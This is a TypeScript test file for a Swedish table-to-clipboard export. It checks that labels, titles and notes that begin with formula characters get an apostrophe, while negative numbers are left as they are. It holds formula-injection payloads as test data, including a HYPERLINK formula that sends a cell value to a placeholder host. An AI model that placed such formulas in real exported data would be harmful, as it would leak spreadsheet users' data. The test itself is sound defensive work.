/**
 * "Kopiera för Word", plain-text flavour: pasted into Excel, a label that starts with `=`, `+`, `-` or
 * `@` would become a formula (`=HYPERLINK(…)` calling out, `-1+2` computing). Such text gets a leading
 * apostrophe, Excel's own "this is text" mark; figures stay figures.
 */
import { copyTable, type ClipboardLike } from '../../src/export/clipboard';
import { tableTsv } from '../../src/export/html';
import { neutralizeFormula } from '../../src/export/tableText';
import { edgeTable, NBSP } from './model';

const HOSTILE = ['=HYPERLINK("https://exempel.invalid/?"&A1;"Klicka")', '+A1', '-1+2 Lokaler', '@SUM(A1:A9)', '＝1+1'];

test.each(HOSTILE)('neutralizeFormula(%s) starts with an apostrophe', (text) => expect(neutralizeFormula(text)).toBe(`'${text}`));

test.each(['Personal', '– varav lokaler', '"=citerad"', "'redan text", ''])('neutralizeFormula(%j) leaves it alone', (text) => expect(neutralizeFormula(text)).toBe(text));

function hostileTable() {
  const t = edgeTable();
  t.title = '=Investeringar';
  t.labelHeader = '@Projekt, mnkr';
  HOSTILE.slice(0, 3).forEach((label, i) => (t.rows[i + 1].label = label));
  t.notes = ['-Positivt tal indikerar en intäkt.'];
  return t;
}

test('every label, title and note of the tab-separated text is neutralised; negative figures are not', () => {
  const lines = tableTsv(hostileTable()).split('\n');
  expect(lines[0]).toBe("'=Investeringar");
  expect(lines[3].split('\t')[0]).toBe("'@Projekt, mnkr");
  const rows = lines.slice(4, 8).map((l) => l.split('\t'));
  expect(rows.map((r) => r[0])).toEqual(['Reinvestering', `'${HOSTILE[0]}`, `'${HOSTILE[1]}`, `'${HOSTILE[2]}`]);
  expect(rows[1].slice(1)).toEqual([`-12,3`, `-12,3`, '0,0', '0,3']);
  expect(rows[3][1]).toBe('-12,3'); // the row labelled '-1+2 Lokaler': its label neutralised, its figure not
  expect(lines.at(-2)).toBe("'-Positivt tal indikerar en intäkt.");
  for (const cells of rows) for (const c of cells.slice(1)) expect(c.startsWith("'")).toBe(false);
  expect(tableTsv(hostileTable())).not.toContain(`${NBSP}'`);
});

test('what copyTable puts on the clipboard as text is the neutralised text', async () => {
  let text = '';
  const clipboard: ClipboardLike = { writeText: async (t) => void (text = t) };
  expect(await copyTable(hostileTable(), clipboard, undefined)).toBe('text');
  expect(text.split('\n')[5].startsWith(`'${HOSTILE[0]}\t`)).toBe(true);
});
